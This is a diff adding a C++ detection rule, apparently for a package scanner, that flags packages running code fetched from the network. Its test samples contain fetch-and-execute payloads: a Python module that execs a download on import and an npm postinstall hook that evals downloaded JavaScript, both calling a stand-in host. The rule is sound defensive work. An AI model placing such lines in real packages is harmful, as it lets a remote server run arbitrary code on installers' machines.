@@ -1,0 +1,85 @@
+#include "rules/conditions.h"
+#include "rules/rule.h"
+
+namespace assay::rules {
+namespace {
+
+Severity severity_of(const Facts& facts, const Action& action) {
+  if (runs_uncalled(action)) return Severity::critical;
+  const Destination origin = origin_near(facts, action);
+  if (is_shady_origin(origin.kind) || origin.kind == HostKind::free_hosting) {
+    return Severity::critical;
+  }
+  const bool is_fixed = origin.host_is_constant && origin.kind != HostKind::local;
+  return is_fixed ? Severity::high : Severity::low;
+}
+
+void check(const Facts& facts, Findings& findings) {
+  for (const Action& action : facts.actions) {
+    const bool runs = action.act == Act::run_code || action.act == Act::load_module ||
+                      action.act == Act::load_native;
+    if (!runs || !is_shipped(action)) continue;
+    if (!action.target_from.any(foreign)) continue;
+    findings.add(severity_of(facts, action), action.where,
+                 sentence("runs code that came from the network", action), action.steps);
+  }
+}
+
+}  // namespace
+
+extern constinit const Rule runs_remote_code = {
+    .id = "runs-remote-code",
+    .title = "The package runs code that it fetched",
+    .why =
+        "A server decides what runs, now and at every later start, so reviewing the package "
+        "says nothing about it.",
+    .harmless_when = "A plug-in loader or REPL that runs what its user pointed it to.",
+    .severity = Severity::critical,
+    .check = check,
+};
+
+#ifdef RULE_SAMPLES
+constexpr Sample samples[] = {
+    {.name = "a module executes an answer when imported",
+     .expect = "sample/__init__.py:2",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="sample", version="1.0.0", packages=["sample"])
+==> sample/__init__.py
+import requests
+exec(requests.get("https://code.example.test/stage").text)
+)"},
+    {.name = "an install hook evaluates a download",
+     .expect = "index.js:5",
+     .bundle = R"(==> package.json
+{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+==> index.js
+const https = require("https");
+https.get("https://code.example.test/stage.js", (response) => {
+  let text = "";
+  response.on("data", (chunk) => { text += chunk; });
+  response.on("end", () => eval(text));
+});
+)"},
+    {.name = "an answer is parsed as data", .expect = silent, .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: sample
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="sample", version="1.0.0", packages=["sample"])
+==> sample/__init__.py
+import json
+import urllib.request
+def fetch(url):
+    return json.loads(urllib.request.urlopen(url).read())
+)"},
+};
+extern const std::span<const Sample> runs_remote_code_samples = samples;
+#endif
+
+}  // namespace assay::rules
